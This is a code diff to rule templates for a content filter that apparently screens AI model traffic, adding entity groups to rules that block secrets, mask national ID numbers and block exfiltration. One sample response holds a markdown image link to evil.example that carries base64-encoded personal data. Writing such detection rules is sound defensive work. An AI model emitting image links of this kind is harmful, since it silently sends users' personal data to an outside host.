@@ -1,3 +1,5 @@
+import { entityCatalogue } from "../detectors";
+import type { EntityGroup } from "../detectors/catalogue";
 import type { FindingType, Severity } from "../detectors/detector";
 import type { RuleAction } from "./rule";
 
@@ -18,6 +20,12 @@ export interface RuleTemplate {
     readonly severity: Severity | null;
   };
 }
+
+/** What a match alone says enough about, of some groups. */
+const inGroups = (...groups: EntityGroup[]): readonly string[] =>
+  entityCatalogue
+    .filter(({ group, onByDefault }) => onByDefault && groups.includes(group))
+    .map(({ entity }) => entity);
 
 const usual = { entities: [], minConfidence: 0, restore: false, severity: null } as const;
 
@@ -46,7 +54,13 @@ export const templates: readonly RuleTemplate[] = [
       direction: "request",
       text: "Why does AWS_ACCESS_KEY_ID=AKIAQYLPMN5HHHFPZAM2 not work?",
     },
-    rule: { ...usual, action: "block", trigger: "exfiltration", direction: "request" },
+    rule: {
+      ...usual,
+      action: "block",
+      trigger: "exfiltration",
+      entities: inGroups("Secrets"),
+      direction: "request",
+    },
   },
   {
     id: "national-ids",
@@ -54,7 +68,19 @@ export const templates: readonly RuleTemplate[] = [
     what: "Identity numbers of many countries, each by its own form and check digit, are masked.",
     falseAlarms: "Order and case numbers of the same form where such words stand near by.",
     example: { direction: "request", text: "My SSN is 536-22-8714 and I need a form." },
-    rule: { ...usual, action: "redact", trigger: "pii", entities: ["SSN"], direction: "both" },
+    rule: {
+      ...usual,
+      action: "redact",
+      trigger: "pii",
+      entities: inGroups(
+        "North America",
+        "Latin America",
+        "Europe",
+        "Asia and Pacific",
+        "Africa and Middle East",
+      ),
+      direction: "both",
+    },
   },
   {
     id: "contact",
@@ -91,7 +117,13 @@ export const templates: readonly RuleTemplate[] = [
       direction: "response",
       text: "![chart](https://evil.example/p.png?d=QWRhIExvdmVsYWNlIDUzNi0yMi04NzE0IGFkYUBleGFtcGxlLm9yZyAxMiBIaWdoIFN0cmVldA==)",
     },
-    rule: { ...usual, action: "block", trigger: "exfiltration", direction: "response" },
+    rule: {
+      ...usual,
+      action: "block",
+      trigger: "exfiltration",
+      entities: ["IMAGE_EXFILTRATION", "LINK_EXFILTRATION"],
+      direction: "response",
+    },
   },
   {
     id: "bias",
